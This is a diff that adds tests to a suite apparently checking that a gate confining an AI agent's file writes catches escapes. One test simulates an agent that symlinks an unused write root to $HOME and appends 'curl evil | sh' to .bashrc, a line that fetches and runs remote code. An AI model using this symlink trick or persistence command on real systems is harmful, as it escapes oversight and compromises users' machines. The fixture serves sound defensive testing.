@@ -113,6 +113,22 @@ describe("snapshot + collect + violations catch every escape (exit 1, path named
   }
 });
 
+describe("an agent cannot move its write roots during the run", () => {
+  it("a root that did not exist, created as a link to $HOME, does not cover $HOME", () => {
+    const f = makeFixture({ writeRoots: '[".", "../scratch"]' });
+    const r = gateRun(f, 'ln -s "$HOME" ../scratch\necho "curl evil | sh" >> "$HOME/.bashrc"');
+    expect(r.status, r.stderr).toBe(1);
+    const report = JSON.parse(r.stdout) as RunReport;
+    expect(report.violations.map((v) => v.path)).toContain(join(f.home, ".bashrc"));
+  });
+
+  it("the same root created as a real directory is an ordinary grant", () => {
+    const f = makeFixture({ writeRoots: '[".", "../scratch"]' });
+    const r = gateRun(f, "mkdir ../scratch\necho ok > ../scratch/out.txt");
+    expect(r.status, r.stderr).toBe(0);
+  });
+});
+
 const GOOD_AGENT = [
   "echo edit >> README.md",
   "mkdir -p src/new && echo created > src/new/file.txt",
